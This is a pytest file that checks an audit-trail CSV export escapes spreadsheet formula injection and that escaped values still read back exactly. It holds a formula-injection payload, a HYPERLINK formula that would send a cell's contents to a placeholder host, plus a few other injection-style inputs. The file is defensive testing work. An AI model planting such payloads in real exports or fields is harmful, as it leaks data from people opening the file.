"""Finding 4 of issue 14: text that looks like a formula reaches the audit trail's CSV inert, escaped by
the same function as every other export, and the stored value can still be read back exactly."""

from __future__ import annotations

import csv
import io

from sqlmodel import select

from epro.exports.columns import as_stored, spreadsheet_safe
from epro.models import AuditEvent
from tests.conftest import csrf_of, sign_in

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def _audit_csv(client) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    response = client.get("/exports/audit.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_formulas_typed_as_a_user_name_or_a_reason_are_inert_in_the_audit_csv(world, app, client):
    world.staff("nurse1")
    world.staff("inv1", role="investigator")
    visit = world.visit(world.patient(day0_offset=-60), "M1")
    sign_in(client, FORMULA, "whatever")  # a failed sign-in records the typed name
    nurse = app.test_client()
    sign_in(nurse, "nurse1")
    csrf = csrf_of(nurse.get("/staff/").text)
    for reason in (FORMULA, "+1 called", "-ve", "@SUM(A1)", "\tTAB", "'quoted"):
        nurse.post(f"/staff/visits/{visit.id}/missed", data={"csrf_token": csrf, "reason": reason})
        nurse.post(f"/staff/visits/{visit.id}/unmissed", data={"csrf_token": csrf, "reason": "x"})
    sign_in(client, "inv1")
    rows = _audit_csv(client)
    for row in rows:
        for column, value in row.items():
            assert not value or value[0] not in "=+-@\t\r", (column, value)
    names = [row["actor_name"] for row in rows if row["action"] == "auth.sign_in_failed"]
    assert names == ["'" + FORMULA[:64]]
    with world.session() as s:
        stored = {e.id: e for e in s.exec(select(AuditEvent)).all()}
    texts = ("actor_name", "action", "field", "old_value", "new_value", "reason")
    for row in rows:  # every cell reads back to exactly what is stored (so the hash chain can be re-checked)
        event = stored[int(row["id"])]
        for column in texts:
            assert as_stored(row[column]) == (getattr(event, column) or ""), (column, row[column])


def test_one_function_escapes_every_export_the_same_way():
    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "plain", "", "한글"):
        cell = spreadsheet_safe(text)
        assert not cell or cell[0] not in "=+-@\t\r"
        assert as_stored(cell) == text
